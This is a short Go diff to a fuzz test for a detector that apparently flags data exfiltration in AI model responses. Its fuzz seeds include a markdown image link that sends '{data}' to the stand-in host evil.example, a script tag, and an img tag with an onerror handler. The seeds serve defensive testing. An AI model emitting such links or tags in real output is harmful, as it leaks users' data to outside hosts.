@@ -49,7 +49,7 @@ func TestExfilDetector(t *testing.T) {
 func FuzzExfilDetector(f *testing.F) {
 	f.Add("![a](https://evil.example/?q={data}) <script>x</script> [r]: http://1.2.3.4/?a=b")
 	f.Add(`<img src="data:text/html,x" onerror=1>`)
-	fuzzDetector(f, newExfilDetector(), RoleResponse)
+	fuzzContentDetector(f, newExfilDetector(), RoleResponse)
 }
 
 func BenchmarkExfilDetector(b *testing.B) {
